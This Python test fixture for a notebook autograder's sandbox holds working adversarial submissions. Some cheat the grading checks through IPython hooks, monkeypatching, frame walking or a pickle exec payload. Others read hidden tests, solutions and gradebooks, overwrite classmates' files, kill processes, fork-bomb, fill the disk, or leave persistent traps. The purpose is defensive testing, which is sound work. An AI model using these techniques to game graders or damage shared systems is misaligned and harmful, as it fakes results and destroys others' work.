"""Submissions that try to cheat the grader, one per kind of attack, for tests/test_attacks.py.

Each attack is a wrong answer to lesson 3's ``relu`` (the absolute value)
with code around it that tries to make it pass anyway, to read what it should
not (solutions, hidden tests, classmates' work, the gradebook), or to harm the
other submissions of the batch. Every one of them must score 0, and none may
change another submission's grade. ``{marker}`` in the code is replaced by a
string unique to the test run, so that what an attack leaves behind (a file,
a process) can be looked for afterwards.
"""

from __future__ import annotations

WRONG_RELU = "def relu(x):\n    return np.abs(x)\n"

#: name -> (code put after the wrong relu in its cell, code of a cell added at the end)
ATTACKS: dict[str, tuple[str, str]] = {
    # --- making the check pass --------------------------------------------------------
    "ipython hooks": (
        "ip = get_ipython()\n"
        "ip.set_custom_exc((Exception,), lambda *a, **k: print('relu: 6/6 checks passed'))\n"
        "ip.events.register('post_run_cell', lambda result: print('relu: 6/6 checks passed'))\n",
        "",
    ),
    "input and ast transformers": (
        "import ast\n"
        "class Blank(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        return ast.Module(body=[], type_ignores=[])\n"
        "get_ipython().ast_transformers.append(Blank())\n"
        "get_ipython().input_transformers_post.append(lambda lines: [])\n",
        "",
    ),
    "pre-run hook rebinding the check": (
        "def rebind(info):\n"
        "    import cnnlab.checks\n"
        "    cnnlab.checks.check_relu = lambda *args, **kwargs: None\n"
        "get_ipython().events.register('pre_run_cell', rebind)\n"
        "get_ipython().displayhook('relu: 6/6 checks passed')\n",
        "",
    ),
    "import machinery": (
        "import sys, types\n"
        "class Fake:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        return None\n"
        "sys.meta_path.insert(0, Fake())\n"
        "fake = types.ModuleType('cnnlab.checks')\n"
        "fake.check_relu = lambda *args, **kwargs: None\n"
        "sys.modules['cnnlab.checks'] = fake\n",
        "",
    ),
    "numpy code replaced": (
        "np.allclose.__code__ = (lambda *args, **kwargs: True).__code__\n"
        "np.array_equal.__code__ = (lambda *args, **kwargs: True).__code__\n",
        "",
    ),
    "trace and profile functions": (
        "import sys\n"
        "def tracer(frame, event, arg):\n"
        "    if 'expected' in frame.f_locals:\n"
        "        frame.f_locals['expected'] = frame.f_locals.get('got')\n"
        "    return tracer\n"
        "sys.settrace(tracer)\n"
        "sys.setprofile(tracer)\n",
        "",
    ),
    "frame walking": (
        "import sys\n"
        "def relu(x):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for key in ('case', 'expected'):\n"
        "            if key in frame.f_locals:\n"
        "                return getattr(frame.f_locals[key], 'expected', np.abs(x))\n"
        "        frame = frame.f_back\n"
        "    return np.abs(x)\n",
        "",
    ),
    "behaves only under the checker": (
        "import traceback\n"
        "def relu(x):\n"
        "    stack = ''.join(traceback.format_stack())\n"
        "    if 'cnnlab' in stack:\n"
        "        return cnnlab.relu(x)\n"
        "    return np.abs(x)\n",
        "",
    ),
    "private copy of the reference's code": (
        "import types\n"
        "relu = types.FunctionType(cnnlab.ops.relu.__code__, cnnlab.ops.relu.__globals__)\n",
        "",
    ),
    "threads patching later": (
        "import threading, time\n"
        "def patch():\n"
        "    while True:\n"
        "        import cnnlab.checks\n"
        "        cnnlab.checks.check_relu = lambda *args, **kwargs: None\n"
        "        time.sleep(0.001)\n"
        "threading.Thread(target=patch, daemon=True).start()\n",
        "",
    ),
    "the grader's kernel side replaced": (
        "from cnnlab.checks import _kernel\n"
        "from cnnlab.checks import _wire\n"
        "def answer(namespace, name, request):\n"
        "    data = _wire.loads(request)\n"
        "    got = cnnlab.relu(*data['args'].values())\n"
        "    return _wire.dumps({'got': got, 'error': None, 'where': '', 'changed': [],"
        " 'called': []})\n"
        "_kernel.answer = answer\n",
        "",
    ),
    "laundered through a module that is not installed": (
        "open('helper.py', 'w').write('import cnnlab\\nrelu = cnnlab.relu\\n')\n"
        "import sys\n"
        "sys.path.insert(0, '.')\n"
        "from helper import relu\n",
        "",
    ),
    "another program computes it": (
        "import subprocess, json\n"
        "def relu(x):\n"
        "    out = subprocess.run(['python', '-c', 'import sys, json, numpy, cnnlab; "
        "x = numpy.array(json.load(sys.stdin)); print(json.dumps(cnnlab.relu(x).tolist()))'],"
        " input=json.dumps(x.tolist()), capture_output=True, text=True).stdout\n"
        "    return np.array(json.loads(out), dtype=x.dtype)\n",
        "",
    ),
    "a module changed without an assignment": (
        "object.__setattr__(np, 'abs', lambda x: np.maximum(x, 0))\n",
        "",
    ),
    "a module changed inside a function": (
        "def patch(module, f):\n    module.abs = f\npatch(np, lambda x: np.maximum(x, 0))\n",
        "",
    ),
    "the reference called from a thread started earlier": (
        "import threading, queue\n"
        "jobs, done = queue.Queue(), queue.Queue()\n"
        "def serve():\n"
        "    while True:\n"
        "        done.put(cnnlab.relu(jobs.get()))\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
        "def relu(x):\n"
        "    jobs.put(x)\n"
        "    return done.get()\n",
        "",
    ),
    "the kernel side replaced by name, through pydoc and mock": (
        "import pydoc\n"
        "from unittest import mock\n"
        "wire = pydoc.locate('cnnlab.chec' + 'ks._wire')\n"
        "def fake(namespace, name, request):\n"
        "    data = wire.loads(request)\n"
        "    got = cnnlab.relu(*data['args'].values())\n"
        "    return wire.dumps({'got': got, 'error': None, 'where': '', 'changed': [],"
        " 'called': []})\n"
        "mock.patch('cnnlab.chec' + 'ks._kernel.answer', fake).start()\n",
        "",
    ),
    "attributes set by name through functools": (
        "import functools\n"
        "class Right:\n"
        "    abs = staticmethod(lambda x: np.maximum(x, 0))\n"
        "functools.update_wrapper(np, Right, assigned=['abs'], updated=[])\n",
        "",
    ),
    "a loader told to unpickle code": (
        "from pathlib import Path\n"
        "code = 'import numpy\\nnumpy.abs = lambda x: numpy.maximum(x, 0)\\n'\n"
        "payload = (b'\\x80\\x02cbuiltins\\nexec\\nq\\x00X' + len(code).to_bytes(4, 'little')"
        " + code.encode() + b'\\x85R.')\n"
        "header = \"{'descr': '|O', 'fortran_order': False, 'shape': (), }\"\n"
        "header = header + ' ' * (63 - (10 + len(header)) % 64) + '\\n'\n"
        "blob = b'\\x93NUMPY\\x01\\x00' + len(header).to_bytes(2, 'little') + header.encode()\n"
        "Path('p.npy').write_bytes(blob + payload)\n"
        "np.load('p.npy', None, True)  # allow_pickle, by position\n",
        "",
    ),
    "a library bound to the exercise's name by a global statement": (
        "from sklearn.neural_network import _base\n"
        "def swap():\n"
        "    global relu\n"
        "    def relu(x):\n"
        "        y = x.copy()\n"
        "        _base.inplace_relu(y)\n"
        "        return y\n"
        "swap()\n",
        "",
    ),
    "a library bound to the exercise's name by a match": (
        "from sklearn.neural_network import _base\n"
        "def mine(x):\n"
        "    y = x.copy()\n"
        "    _base.inplace_relu(y)\n"
        "    return y\n"
        "match mine:\n"
        "    case relu:\n"
        "        pass\n",
        "",
    ),
    "a library called by a metaclass": (
        "from sklearn.neural_network import _base\n"
        "class Meta(type):\n"
        "    def __call__(cls, x):\n"
        "        y = x.copy()\n"
        "        _base.inplace_relu(y)\n"
        "        return y\n"
        "class relu(metaclass=Meta):\n"
        "    pass\n",
        "",
    ),
    # --- reading what it should not -----------------------------------------------
    "the grader's log through an inherited descriptor": (
        "import os\n"
        "for fd in sorted(os.listdir('/proc/self/fd'), key=int):\n"
        "    try:\n"
        "        target = os.readlink(f'/proc/self/fd/{fd}')\n"
        "        text = ''\n"
        "        if target.startswith('/') and not target.startswith(('/dev/', '/proc/')):\n"
        "            text = open(f'/proc/self/fd/{fd}', errors='replace').read(20000)\n"
        "    except OSError:\n"
        "        continue\n"
        "    print('FD', fd, target, repr(text[:2000]))\n",
        "",
    ),
    "hidden tests from the history": (
        "",
        "print('HISTORY', _ih, Out)\nprint(get_ipython().history_manager.input_hist_raw)\n",
    ),
    "hidden tests from linecache": (
        "import linecache\n"
        "def relu(x):\n"
        "    for name, entry in list(linecache.cache.items()):\n"
        "        print('LINECACHE', name, ''.join(entry[2])[:20000])\n"
        "    return np.abs(x)\n",
        "",
    ),
    "solutions and gradebook from the disk": (
        "import os, pathlib\n"
        "found = []\n"
        "start = pathlib.Path(cnnlab.__file__).resolve().parents[1]\n"
        "for top in [start, pathlib.Path('/'), pathlib.Path('/tmp')]:\n"
        "    for folder, dirs, files in os.walk(top):\n"
        "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'usr', 'dev')]\n"
        "        for name in files:\n"
        "            if name.endswith(('.ipynb', '.db', '.csv', '.html', '.jsonl')):\n"
        "                path = os.path.join(folder, name)\n"
        "                try:\n"
        "                    found.append((path, open(path, errors='replace').read()[:50000]))\n"
        "                except OSError:\n"
        "                    pass\n"
        "print('DISK', found)\n",
        "",
    ),
    # --- harming the others -------------------------------------------------------
    "writing classmates' files and the gradebook": (
        "import os, sqlite3\n"
        "for folder, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr')]\n"
        "    for name in files:\n"
        "        path = os.path.join(folder, name)\n"
        "        if name.endswith('.ipynb') or name == 'grades.csv':\n"
        "            try:\n"
        "                open(path, 'w').write('{marker}')\n"
        "            except OSError:\n"
        "                pass\n"
        "        if name.endswith('.db'):\n"
        "            try:\n"
        "                db = sqlite3.connect(path)\n"
        "                db.execute('UPDATE grade SET auto_score = 0')\n"
        "                db.execute('UPDATE source_cell SET source = \"pass\"')\n"
        "                db.commit()\n"
        "            except Exception:\n"
        "                pass\n",
        "",
    ),
    "a .pth file in the environment": (
        "import site, sys, os\n"
        "for folder in {*site.getsitepackages(), *sys.path}:\n"
        "    try:\n"
        "        open(os.path.join(folder, 'zz_{marker}.pth'), 'w').write("
        "'import cnnlab.checks as c; c.check_relu = lambda *a, **k: None\\n')\n"
        "    except OSError:\n"
        "        pass\n",
        "",
    ),
    "killing every process it can": (
        "import os, signal\n"
        "for pid in range(1, 70000):\n"
        "    if pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(pid, signal.SIGKILL)\n"
        "        except OSError:\n"
        "            pass\n",
        "",
    ),
    "a detached process left behind": (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(4)\n"
        "        for folder, dirs, files in os.walk('/'):\n"
        "            dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr')]\n"
        "            for name in files:\n"
        "                if name in ('grades.csv', 'gradebook.db'):\n"
        "                    try:\n"
        "                        open(os.path.join(folder, name), 'w').write('{marker}')\n"
        "                    except OSError:\n"
        "                        pass\n"
        "        time.sleep(600)\n"
        "    os._exit(0)\n",
        "",
    ),
    "all the memory": ("hog = bytearray(6 * 1024**3)\n", ""),
    "a fork bomb": (
        "import os\n"
        "for _ in range(200):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            import time\n"
        "            time.sleep(30)\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        break\n",
        "",
    ),
    "writing where no size limit holds": (
        "import os\n"
        "wrote = []\n"
        "for folder in ('/', '/etc', '/work', '/dev', '/usr', '/proc'):\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'fill'), 'wb') as f:\n"
        "            f.write(b'x' * 10_000_000)\n"
        "        wrote.append(folder)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('OUTSIDE', wrote)\n",
        "",
    ),
    "a million empty files": (
        "made = 0\n"
        "for folder in ('/tmp', '/dev/shm', '.'):\n"
        "    try:\n"
        "        for number in range(200_000):\n"
        "            open(f'{folder}/f{number}', 'w').close()\n"
        "            made += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "print('FILES', made)\n",
        "",
    ),
    "filling the disk": (
        "import itertools\n"
        "for n in itertools.count():\n"
        "    try:\n"
        "        with open(f'/tmp/fill-{n}', 'wb') as f:\n"
        "            f.write(b'x' * 100_000_000)\n"
        "    except OSError:\n"
        "        break\n",
        "",
    ),
}


#: Run one after the other on one worker (so in one sandbox): each trap, then a
#: correct submission that looks for what the trap left. name -> code after the
#: wrong relu. ``{marker}`` as above.
TRAPS: dict[str, str] = {
    "files and IPC objects left for the next kernel": (
        "import os, signal, subprocess, time\n"
        "for folder in ('/tmp', '/dev/shm', os.getcwd()):\n"
        "    open(os.path.join(folder, 'TRAP-{marker}'), 'w').write('x')\n"
        "hook = (\"get_ipython().events.register('post_run_cell', \"\n"
        '        "lambda r: get_ipython().user_ns.update(relu=abs))\\n")\n'
        "for ipython in ('/tmp/.ipython', '/tmp/ipython'):\n"
        "    try:\n"
        "        os.makedirs(ipython + '/profile_default/startup', exist_ok=True)\n"
        "        open(ipython + '/profile_default/startup/00-TRAP-{marker}.py', 'w').write(hook)\n"
        "    except OSError:\n"
        "        pass\n"
        "os.makedirs('/tmp/locked/inner')\n"
        "open('/tmp/locked/inner/TRAP-{marker}', 'w').write('x')\n"
        "os.chmod('/tmp/locked/inner', 0)\n"
        "os.chmod('/tmp/locked', 0)\n"
        "os.symlink('/tmp/locked', '/tmp/TRAP-link-{marker}')\n"
        "subprocess.run(['ipcmk', '-M', '4096'], capture_output=True)\n"
    ),
    "message queues and keys left for the next kernel": (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.mq_open(b'/TRAP-{marker}', os.O_CREAT | os.O_RDWR, 0o600, None)\n"
        "if os.uname().machine == 'x86_64':  # add_key(2): the user's and session's keyrings\n"
        "    for keyring in (-4, -3, -5):\n"
        "        libc.syscall(248, b'user', b'TRAP-{marker}', b'planted', 7, keyring)\n"
        "print('KEYS', open('/proc/keys').read())\n"
    ),
    "a process lying in wait for the next kernel": (
        "import os, signal, time\n"
        "if os.fork() == 0:  # waits for the next kernel, to stop the zygote and kill it\n"
        "    os.setsid()\n"
        "    known = {p for p in os.listdir('/proc') if p.isdigit()}\n"
        "    while True:\n"
        "        for p in os.listdir('/proc'):\n"
        "            if p.isdigit() and p not in known:\n"
        "                try:\n"
        "                    os.kill(int(p), signal.SIGKILL)\n"
        "                except OSError:\n"
        "                    pass\n"
        "        try:\n"
        "            os.kill(2, signal.SIGSTOP)\n"
        "        except OSError:\n"
        "            pass\n"
        "        time.sleep(0.05)\n"
    ),
    "the zygote's limits, priority and CPUs": (
        "import os, resource\n"
        "zygote = os.getppid()\n"
        "resource.prlimit(zygote, resource.RLIMIT_AS, (300 * 1024**2, 300 * 1024**2))\n"
        "os.setpriority(os.PRIO_PROCESS, zygote, 19)\n"
        "os.sched_setaffinity(zygote, {min(os.sched_getaffinity(0))})\n"
    ),
    "the zygote's I/O priority": (
        "import os, psutil\npsutil.Process(os.getppid()).ionice(psutil.IOPRIO_CLASS_IDLE)\n"
    ),
    "folders nested past every limit, and /tmp full": (
        "import json, os\n"
        "def nest(top, name, depth):  # made relative to an open folder: no path is too long\n"
        "    here = os.open(top, os.O_RDONLY)\n"
        "    for _ in range(depth):\n"
        "        os.mkdir(name, dir_fd=here)\n"
        "        deeper = os.open(name, os.O_RDONLY, dir_fd=here)\n"
        "        os.close(here)\n"
        "        here = deeper\n"
        "    os.close(os.open('TRAP-{marker}', os.O_WRONLY | os.O_CREAT, dir_fd=here))\n"
        "    os.close(here)\n"
        "sockets = os.path.dirname(json.load(open('/tmp/kernel-connection.json'))['ip'])\n"
        "nest(sockets, 'd', 3000)  # deeper than any recursive removal goes\n"
        "nest('/tmp', 'x' * 250, 20)  # a path longer than PATH_MAX\n"
        "os.unlink('/tmp/kernel-connection.json')  # where the next kernel's is written\n"
        "os.mkdir('/tmp/kernel-connection.json')\n"
        "nest('/tmp/kernel-connection.json', 'y' * 250, 20)\n"
        "try:\n"
        "    with open('/tmp/TRAP-full-{marker}', 'wb') as file:\n"
        "        while True:\n"
        "            file.write(b'x' * 2**20)\n"
        "except OSError:\n"
        "    pass\n"
    ),
}

#: The last cell of the correct submission that follows each trap: what it finds. It
#: imports only what a graded notebook may (pathlib), so that it keeps full marks.
PROBE = (
    "from pathlib import Path\n"
    "found = []\n"
    "for folder in ('/tmp', '/dev/shm', '/dev/mqueue', str(Path.cwd())):\n"
    "    found += [str(path) for path in Path(folder).rglob('*')]\n"
    "mine = open('/proc/self/stat').read().rsplit(')', 1)[1].split()\n"
    "limits = open('/proc/self/limits').read().splitlines()\n"
    "status = open('/proc/self/status').read()\n"
    "cpus = 0\n"
    "for part in status.split('Cpus_allowed_list:')[1].split()[0].split(','):\n"
    "    first, _, last = part.partition('-')\n"
    "    cpus += int(last or first) - int(first) + 1\n"
    "zygote = open('/proc/2/stat').read().rsplit(')', 1)[1].split()[19]\n"
    "print('PROBE', {\n"
    "    'found': sorted(found),\n"
    "    'segments': len(open('/proc/sysvipc/shm').read().splitlines()) - 1,\n"
    "    'keys': [line for line in open('/proc/keys') if 'TRAP' in line],\n"
    "    'processes': sorted(int(p.name) for p in Path('/proc').iterdir() if p.name.isdigit()),\n"
    "    'niceness': int(mine[16]),\n"
    "    'cpus': cpus,\n"
    "    'memory': int(next(l for l in limits if l.startswith('Max address space')).split()[3]),\n"
    "    'zygote started': int(zygote),\n"
    "})\n"
)
